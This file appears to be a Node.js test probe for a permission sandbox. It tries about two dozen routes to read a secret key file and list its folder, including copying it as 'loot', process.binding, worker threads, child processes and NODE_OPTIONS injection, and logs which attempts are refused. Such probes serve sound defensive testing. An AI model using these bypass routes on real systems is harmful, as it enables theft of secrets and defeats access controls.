// Reads the key and its folder by every reading function of fs that Node's own model once missed.
// class: Node: calls that nobody checked (watch, openAsBlob, opendir, cp, glob, realpath, streams, workers)
// plain: leak
// journal: read {KEY}
import child from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { Worker } from "node:worker_threads";

const facts = Object.fromEntries(process.argv.slice(2).map((f) => [f.slice(0, f.indexOf("=")), f.slice(f.indexOf("=") + 1)]));
const { KEY: key, W: work } = facts;
const folder = path.dirname(key);
console.log("tried");
const collect = async (stream) => {
  let all = "";
  for await (const part of stream) all += part;
  return all;
};
const ways = {
  readFileSync: () => fs.readFileSync(key),
  readFile: () => new Promise((ok, no) => fs.readFile(key, (e, d) => (e ? no(e) : ok(d)))),
  promises: () => fs.promises.readFile(key),
  stream: () => collect(fs.createReadStream(key)),
  "stream of a handle": async () => collect((await fs.promises.open(key)).createReadStream()),
  readLines: async () => {
    let all = "";
    for await (const line of (await fs.promises.open(key)).readLines()) all += line;
    return all;
  },
  openAsBlob: async () => (await fs.openAsBlob(key)).text(),
  readv: () => {
    const into = Buffer.alloc(4096);
    fs.readvSync(fs.openSync(key), [into]);
    return into;
  },
  copyFile: () => fs.copyFileSync(key, work + "/loot1"),
  cp: () => fs.cpSync(folder, work + "/loot2", { recursive: true }),
  rename: () => fs.renameSync(key + "x", work + "/loot3"),
  opendir: () => fs.opendirSync(folder).readSync().name,
  readdir: () => fs.readdirSync(folder).join(),
  "readdir recursive": () => fs.readdirSync(facts.HOME, { recursive: true }).join(),
  glob: () => (fs.globSync ? fs.globSync(folder + "/*").join() : "none"),
  readlink: () => fs.readlinkSync(folder + "/link"),
  require: () => process.getBuiltinModule?.("module").createRequire(key)(key),
  "process.binding": () => process.binding("fs").readFileUtf8?.(key, 0),
  worker: () =>
    new Promise((ok, no) => {
      const worker = new Worker(`require("worker_threads").parentPort.postMessage(String(require("fs").readFileSync(${JSON.stringify(key)})))`, { eval: true });
      worker.on("message", ok).on("error", no);
    }),
  "child of node": () => child.execFileSync(process.execPath, ["-p", `fs.readFileSync(${JSON.stringify(key)}, "utf8")`]),
  "NODE_OPTIONS": () => child.execFileSync(process.execPath, ["-e", "0"], { env: { ...process.env, NODE_OPTIONS: `--require=${key}` }, stderr: "inherit" }),
  report: () => process.report.writeReport(folder + "/report.json"),
};
for (const [name, way] of Object.entries(ways)) {
  try {
    console.log(name, String(await way()));
  } catch (error) {
    console.log("refused:", name, error.code ?? error.message.split("\n")[0]);
  }
}
process.exit();
